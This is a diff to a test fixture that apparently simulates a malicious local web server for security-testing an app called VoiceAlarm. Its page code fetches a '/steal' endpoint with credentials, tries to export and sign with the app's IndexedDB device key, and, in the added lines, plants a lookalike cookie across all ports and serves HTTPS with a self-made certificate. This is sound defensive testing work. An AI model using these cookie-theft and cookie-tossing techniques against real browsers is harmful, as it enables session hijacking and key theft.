@@ -1,13 +1,17 @@
 """Another local account's web server, as an attacker runs one: on another port of 127.0.0.1, or
 on VoiceAlarm's own port while `voicealarm serve` is down.
 
-    python3 attacker_server.py PORT LOG     (PORT 0: any free one, written to LOG first)
+    python3 attacker_server.py PORT LOG [CERT KEY]     (PORT 0: any free one, written to LOG first)
+
+With CERT and KEY it speaks HTTPS with that certificate: the best a squatter without the
+library's authority can do (one it made itself for 127.0.0.1).
 
 Its page asks the browser for whatever it will give this origin: the cookies the browser sends
 with the page's own request (cookies are scoped by host, not port), and, on VoiceAlarm's own
 port, the device key in IndexedDB (the same origin opens it) — which it tries to export and to
-sign with. Every request's Cookie header and every report go to LOG as JSON lines; the page sets
-its title to "done" when it has reported.
+sign with. It also tosses a cookie of VoiceAlarm's old name for the whole host (`Path=/`: every
+port's page is sent it). Every request's Cookie header and every report go to LOG as JSON lines;
+the page sets its title to "done" when it has reported.
 """
 import json
 import sys
@@ -30,6 +34,7 @@ async function key() {
   });
 }
 (async () => {
+  document.cookie = "voicealarm_device=tossed-by-another-port; path=/; max-age=3600";
   await fetch("/steal", { credentials: "include" });
   const found = { step: "key" };
   try {
@@ -78,6 +83,11 @@ class Attacker(BaseHTTPRequestHandler):
 
 
 server = ThreadingHTTPServer(("127.0.0.1", int(sys.argv[1])), Attacker)
+if len(sys.argv) > 4:
+    import ssl
+    context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
+    context.load_cert_chain(sys.argv[3], sys.argv[4])
+    server.socket = context.wrap_socket(server.socket, server_side=True)
 with open(sys.argv[2], "a") as log:
     log.write(json.dumps({"port": server.server_address[1]}) + "\n")
 server.serve_forever()
